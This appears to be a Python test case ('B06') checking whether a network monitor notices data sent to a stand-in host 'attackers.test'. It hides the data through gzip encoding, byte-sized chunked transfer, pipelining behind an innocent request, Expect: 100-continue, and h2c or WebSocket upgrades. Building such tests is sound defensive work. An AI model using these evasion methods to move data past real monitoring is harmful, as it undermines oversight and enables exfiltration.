"""B06: hide it from whoever reads the wire: compressed, in chunks of a byte, behind an honest request of
the same connection, behind an upgrade to another protocol.
"""

import gzip
import socket

LIMIT = 10


def attack(hands):
    hides(hands, "open.test", "attackers.test", hands.plain())


def twin(hands):
    hides(hands, "kept.test", "kept.test", hands.secret())


def hides(hands, front, host, text):
    """Say it to `host` in every way that a reader of the wire may miss."""
    packed = gzip.compress(text.encode())
    chunks = b"".join(b"1;x=y\r\n%c\r\n" % byte for byte in text.encode())
    honest = head("POST", "/", front, "Content-Length: 5") + b"hello"
    for way, said in (
        ("compressed", sized(host, packed, "Content-Encoding: gzip")),
        ("in chunks", head("POST", "/", host, "Transfer-Encoding: chunked") + chunks + b"0\r\n\r\n"),
        ("behind another", honest + head("GET", f"/{text}", host)),
        ("behind an expectation", sized(host, text.encode(), "Expect: 100-continue")),
        ("to HTTP/2", head("GET", f"/{text}", host, "Connection: Upgrade", "Upgrade: h2c")),
        ("to WebSocket", head("GET", f"/{text}", host, "Connection: Upgrade", "Upgrade: websocket")),
    ):
        try:
            with socket.create_connection((front, 80), timeout=LIMIT) as stream:
                stream.sendall(said)
                stream.shutdown(socket.SHUT_WR)
                answer = b"".join(iter(lambda: stream.recv(65536), b""))
                told = answer[answer.rfind(b"HTTP/1.1 ") :].partition(b"\r\n")[0].decode()
        except OSError as error:
            told = repr(error)
        hands.statuses.append((way, told))


def sized(host, body, *headers):
    """A request with a body."""
    return head("POST", "/", host, f"Content-Length: {len(body)}", *headers) + body


def head(method, path, host, *headers):
    """The head of a request."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {host}", *headers, "", ""]).encode()
